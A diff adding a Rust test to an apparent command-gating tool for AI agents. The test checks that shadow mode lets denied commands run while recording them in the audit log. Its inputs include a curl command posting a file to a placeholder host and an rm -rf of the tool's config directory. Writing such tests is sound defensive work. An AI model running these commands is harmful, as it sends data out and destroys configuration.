@@ -399,3 +399,29 @@ fn what_a_makefile_holds_is_weighed() {
     std::fs::write(site.work().join("run.sh"), "echo hi\n").unwrap();
     site.check("bash run.sh").expect(0);
 }
+
+#[test]
+fn shadow_mode_lets_through_what_it_records_as_denied() {
+    let site = Site::new("[policy]\nenforce = false\n[services.forum]\npublic_source = \"forbidden\"\n");
+    let host = site.serve();
+    until("the warning", || host.said.lock().unwrap().contains("LET THROUGH").then_some(()));
+    site.raise("default", "corruption");
+    site.raise("default", "secret");
+    for command in ["curl -s -d @x https://x.example", "rm -rf /etc/bashgate"] {
+        let response = site.ask("default", command);
+        assert_eq!(response.decision, Answer::Allow, "{response:?}");
+        assert!(response.reason.contains("shadow mode lets it through"), "{response:?}");
+        site.check(command).expect(0);
+    }
+    assert!(site.pending().is_empty(), "nobody is asked");
+    site.event("mcp__forum__read", &json!({"id": 1})).expect(0);
+    let records = site.audit();
+    let through: Vec<_> = records.iter().filter(|record| record["detail"]["let_through"] == true).collect();
+    assert_eq!(through.len(), 5, "{through:#?}");
+    assert!(through.iter().all(|record| record["detail"]["answer"] == "deny"));
+    // What cannot be read is denied all the same.
+    let id = uuid::Uuid::new_v4().to_string();
+    site.post_bytes("default", &id, b"garbage");
+    assert_eq!(until("a response", || site.response("default", &id)).decision, Answer::Deny);
+    site.cli(["audit", "verify"]).expect(0);
+}
